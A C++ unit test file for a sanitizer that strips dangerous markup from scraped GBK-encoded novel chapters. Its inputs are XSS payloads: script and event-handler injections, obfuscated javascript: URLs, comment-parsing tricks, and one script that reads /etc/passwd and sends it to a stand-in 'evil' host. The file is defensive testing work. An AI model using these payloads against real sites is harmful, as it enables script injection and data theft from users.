#include "scrape/html_sanitizer.h"

#include <gtest/gtest.h>

#include <random>

#include "page_fixtures.h"
#include "scrape/gbk_literal.h"

namespace {

TEST(SanitizeChapterHtml, CleanChapterIsUnchanged) {
  const GbkText clean[] = {
      "",
      "\n&nbsp;&nbsp;&nbsp;&nbsp;“斗之力，三段！”<br />\r\n<br />\r\n&nbsp;&nbsp;少年面无表情。"_gbk,
      "<p>一</p><p class=\"x\" style=\"color:red\">二<b>粗</b><i>斜</i><u>线</u></p>"_gbk,
      "<a href=\"http://h/book/1.html\" target=\"_blank\">链接</a> &lt;script&gt; &#25991; a < b > c"_gbk,
      "<!-- 注释 --><br/><BR><hr><font color=#ff0000 size=3>红</font><img src=\"a.png\" alt=\"图\">"_gbk,
      "3 < 5 && 5 > 3; <3 <> <!DOCTYPE html> <?xml?> </ p>"_gbk,
      // Double-byte characters whose second byte is a letter ("o", "n", "s").
      "\x81o\x81n\x81s <p title=\"\x81onclick\">"
      "Caf\x81\x30\x81\x30 four-byte sequences stay",
      // The words alone are text, not addresses.
      "onload= javascript: vbscript: script style iframe",
  };
  for (const GbkText& html : clean) EXPECT_EQ(SanitizeChapterHtml(html), html) << Utf8(html);
}

TEST(SanitizeChapterHtml, HostileSnippets) {
  struct Case {
    const char* what;
    GbkText html, expected;
  } cases[] = {
      {"script with its content", "a<script>alert(1)</script>b", "ab"},
      {"script in capitals over lines", "a<SCRIPT type=text/javascript>\r\nx()\r\n</SCRIPT >b",
       "ab"},
      {"script reading a local file",
       "a<script>fetch('file:///etc/passwd').then(r=>r.text()).then(t=>new "
       "Image().src='http://evil/?'+t)</script>b",
       "ab"},
      {"script end inside a quoted end tag attribute", "a<script>x</script a='>'>b", "ab"},
      {"unterminated script takes the rest", "a<script>alert(1)<br />more", "a"},
      {"style with its content", "a<style>body{display:none}</style>b", "ab"},
      {"iframe with its content", "a<iframe src=\"file:///etc/passwd\">x</iframe>b", "ab"},
      {"frame and frameset", "<frameset><frame src=\"javascript:alert(1)\"></frameset>a", "a"},
      {"object and param, content stays",
       "<object data=\"x.swf\"><param name=a value=b>alt</object>", "alt"},
      {"embed", "a<embed src=\"x.swf\">b", "ab"},
      {"applet", "<applet code=X.class>a</applet>", "a"},
      {"form elements",
       "<form action=\"http://evil/\"><input name=p><button>b</button><textarea>t</textarea>"
       "<select><option>o</option></select></form>",
       "bto"},
      {"meta refresh", "a<meta http-equiv=\"refresh\" content=\"0;url=http://evil/\">b", "ab"},
      {"link and base", "<link rel=stylesheet href=x.css><base href=\"http://evil/\">a", "a"},
      {"event attribute, double quotes", "<img src=\"a.png\" onerror=\"alert(1)\">",
       "<img src=\"a.png\" >"},
      {"event attribute, single quotes", "<p onclick='alert(1)'>a</p>", "<p >a</p>"},
      {"event attribute, no quotes", "<body onload=alert(1)>", "<body >"},
      {"event attribute in capitals", "<p ONCLICK=\"x\" OnMouseOver=y>a</p>", "<p  >a</p>"},
      {"event attribute without a value", "<p onfocus autofocus>", "<p  autofocus>"},
      {"event attribute right after a quoted value", "<p title=\"t\"onclick=\"x\">",
       "<p title=\"t\">"},
      {"event attribute after a slash", "<img/onerror=alert(1)>", "<img/>"},
      {"event attribute with blanks around =", "<p onclick = \"x\" id=a>", "<p  id=a>"},
      {"javascript: address", "<a href=\"javascript:alert(1)\">a</a>", "<a >a</a>"},
      {"mixed case", "<a href=\"JaVaScRiPt:alert(1)\">a</a>", "<a >a</a>"},
      {"blanks and control characters", "<a href=\" \tjava\nscript:alert(1)\">a</a>", "<a >a</a>"},
      {"entities", "<a href=\"&#106;ava&#x73;cript&colon;alert(1)\">a</a>", "<a >a</a>"},
      {"entities without semicolons", "<a href=\"&#106&#97&#118&#97script:x\">a</a>", "<a >a</a>"},
      {"entity tab inside", "<a href=\"java&Tab;script:x\">a</a>", "<a >a</a>"},
      {"unquoted", "<a href=javascript:alert(1)>a</a>", "<a >a</a>"},
      {"vbscript:", "<a href='vbscript:msgbox(1)'>a</a>", "<a >a</a>"},
      {"in a style attribute", "<p style=\"background:url(javascript:x)\">a</p>", "<p >a</p>"},
      {"svg and math tags go, so their content is plain HTML",
       "<svg><a href=x>s</a></svg><math>m</math>", "<a href=x>s</a>m"},
      {"raw text elements lose their tags", "<xmp><b>x</b></xmp><noscript>n</noscript>",
       "<b>x</b>n"},
      {"title and plaintext", "<title>t</title><plaintext>p", "tp"},
      {"a hidden attribute in a raw text element is read as markup",
       "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
       "<img title=\"</noembed><img src=x onerror=alert(1)>\">"},
      {"a \"<\" before a removed tag is escaped", "<<script>x</script>script>alert(1)",
       "&lt;script>alert(1)"},
      {"nested trick: the tag name runs to the first \">\"",
       "<scr<script>x</script>ipt>alert(1)</script>", "<scr<script>xipt>alert(1)"},
      {"lone lead byte before a quote", "<p title=\"\x81\" onclick=\"x\">", "<p title=\"\" >"},
      {"lone lead byte at the end", "a\x81", "a"},
      {"unterminated tag at the end", "a<img src=x onerror=alert(1) ", "a"},
      {"unterminated attribute value", "a<a href=\"x>b", "a"},
      {"unterminated comment", "a<!-- x", "a"},
      {"stray end tag", "a</script>b</iframe>c", "abc"},
      // Found by fuzzing: without the removed attribute, the stray "=" would
      // give "e" the value "\">".
      {"a stray = after a removed attribute", "<a e on=\"\"=\">", "<a e >"},
      {"a stray = where a name should start", "<a =x title=t>", "<a  title=t>"},
  };
  for (const Case& c : cases) {
    const GbkText once = SanitizeChapterHtml(c.html);
    EXPECT_EQ(once, c.expected) << c.what;
    EXPECT_EQ(SanitizeChapterHtml(once), once) << "again: " << c.what;
  }
}

TEST(SanitizeChapterHtml, CommentsEndWhereTheBrowserEndsThem) {
  struct Case {
    const char* what;
    GbkText html, expected;
  } cases[] = {
      // The comment ends at "<!-->": the script after it is live markup.
      {"abrupt empty comment", "<!--><script>x</script>-->", "<!-->-->"},
      {"abrupt comment with a dash", "<!---><img onerror=x>", "<!---><img >"},
      {"ends at --!>", "<!-- a --!><img onerror=x>", "<!-- a --!><img >"},
      {"-- > does not end it", "<!-- -- ><img onerror=x> -->", "<!-- -- ><img onerror=x> -->"},
      {"bogus comment ends at the first >", "<! x><img onerror=x>", "<! x><img >"},
      {"processing instruction ends at the first >", "<?x ><img onerror=x>", "<?x ><img >"},
      {"end tag opener before a non-letter", "</ x><img onerror=x>", "</ x><img >"},
  };
  for (const Case& c : cases) EXPECT_EQ(SanitizeChapterHtml(c.html), c.expected) << c.what;
}

// Whatever the input, sanitizing the result again changes nothing: what is
// left reads as the same tags, none of them forbidden.
TEST(SanitizeChapterHtml, ResultIsStableOnRandomMarkup) {
  const std::vector<GbkText> pieces = {
      "<",           ">",         "/",       "=",   "\"",   "'",        " ",        "\r\n",
      "<script>",    "</script>", "<!--",    "-->", "--!>", "<iframe",  "onload",   "href=",
      "javascript:", "&#106;",    "&colon;", "a",   "\x81", "\x81\x40", "<p",       "<svg>",
      "<title>",     "</",        "!",       "?",   "<a ",  "style",    "<noembed>"};
  std::mt19937 random(4711);
  for (int round = 0; round < 20000; ++round) {
    GbkText html;
    const int count = 1 + static_cast<int>(random() % 40);
    for (int i = 0; i < count; ++i) html += pieces[random() % pieces.size()];
    const GbkText once = SanitizeChapterHtml(html);
    ASSERT_EQ(SanitizeChapterHtml(once), once) << "input: " << html;
  }
}

}  // namespace
